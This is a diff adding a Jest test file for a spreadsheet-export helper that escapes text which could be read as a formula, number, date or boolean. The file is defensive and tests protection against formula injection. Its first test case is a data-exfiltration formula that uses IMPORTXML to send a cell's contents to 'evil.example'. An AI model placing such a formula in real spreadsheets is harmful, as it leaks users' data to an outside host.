@@ -1,0 +1,37 @@
+import { describe, expect, test } from "@jest/globals";
+import { neutralText } from "../../../src/sheet/neutral-text";
+
+describe("text from elsewhere", () => {
+  test.each([
+    '=IMPORTXML("https://evil.example?"&A1, "//a")',
+    "+49 30 123",
+    "-1",
+    "@name",
+    "'quoted",
+    "\t=1",
+    "007",
+    "11-50",
+    "1/2",
+    "5 May",
+    "12:30 pm",
+    "10 €",
+    "2026-01-02 10:00:00+00:00",
+    "TRUE",
+    "Wahr",
+    "1e5",
+    "50%",
+  ])("is kept from being read as something else: %s", (text) => {
+    expect(neutralText(text)).toBe(`'${text}`);
+  });
+
+  test.each([
+    "VALID",
+    "ann1@acme.example",
+    "Acme Anvils",
+    "acme1.example.test.of.names",
+    "",
+    "No. 1 in anvils and more",
+  ])("stays as it is when it is plain: %s", (text) => {
+    expect(neutralText(text)).toBe(text);
+  });
+});
